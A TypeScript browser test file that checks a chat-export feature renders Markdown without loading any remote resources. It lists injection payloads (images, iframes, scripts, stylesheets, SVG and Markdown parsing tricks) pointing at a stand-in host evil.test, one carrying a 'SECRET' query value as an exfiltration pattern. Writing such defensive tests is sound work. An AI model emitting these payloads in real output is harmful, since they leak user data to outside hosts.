// An exported chat in a previewer of Markdown, in a real browser that would load whatever it is told to.
import createMarkdown from 'markdown-it';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { chatMarkdown } from '../../../src/chat/chatMarkdown.ts';
import { endedAnswer, userMessage } from './messages.ts';
import { launchBrowser } from './panelPage.ts';

const payloads = [
  '![x](https://evil.test/1.png?d=SECRET)',
  '![x][ref]\n\n[ref]: https://evil.test/2.png',
  '<img src=https://evil.test/3.png srcset="https://evil.test/4.png 2x">',
  '<iframe src=https://evil.test/5></iframe><link rel=stylesheet href=https://evil.test/6.css>',
  '<style>@import "https://evil.test/7.css"; body { background: url(https://evil.test/8.png) }</style>',
  '<script src=https://evil.test/9.js></script><svg><image href=https://evil.test/10.png /></svg>',
  '<video poster=https://evil.test/11.png src=https://evil.test/12.mp4></video><object data=https://evil.test/13></object>',
  '- a\n  ```\n  b\n<img src=https://evil.test/14.png>',
  '[a](/x "` ") <img src=https://evil.test/15.png> `',
];

describe('an exported chat', () => {
  let browser: Browser;

  beforeAll(async () => {
    browser = await launchBrowser();
  });
  afterAll(() => browser.close());

  /** What a page that shows the Markdown asks for. */
  async function requestsOf(markdown: string): Promise<readonly string[]> {
    const page = await browser.newPage();
    const requests: string[] = [];
    await page.route('**/*', async (route) => {
      requests.push(route.request().url());
      await route.abort();
    });
    await page.setContent(createMarkdown({ html: true, linkify: true }).render(markdown), { waitUntil: 'load' });
    await page.close();
    return requests;
  }

  // Rows: T1, T9
  it('loads nothing from anywhere, which the same text as it is would do', async () => {
    expect((await requestsOf(payloads.join('\n\n'))).length).toBeGreaterThan(10);
    const attachment = { id: 'x', kind: 'selection', uri: 'file:///a', startLine: 1, endLine: 2 } as const;
    for (const text of [...payloads, payloads.join('\n\n')]) {
      const attachments = [{ ...attachment, label: text, languageId: text, text }];
      const messages = [userMessage({ text, attachments }), endedAnswer({ text, reasoning: text, model: text })];
      const exported = chatMarkdown(
        {
          summary: { id: 'c', title: text, model: text, isPinned: false, createdAt: 1, updatedAt: 1 },
          messages: messages.map((message, index) => ({
            ...{ message, parentId: messages[index - 1]?.id, createdAt: 1, isGrowing: false },
          })),
          leafId: messages.at(-1)?.id,
        },
        { you: 'You', describeError: ({ detail = '' }) => detail },
      );
      expect(exported).toContain('evil.test');
      expect(await requestsOf(exported), text).toEqual([]);
    }
  });
});
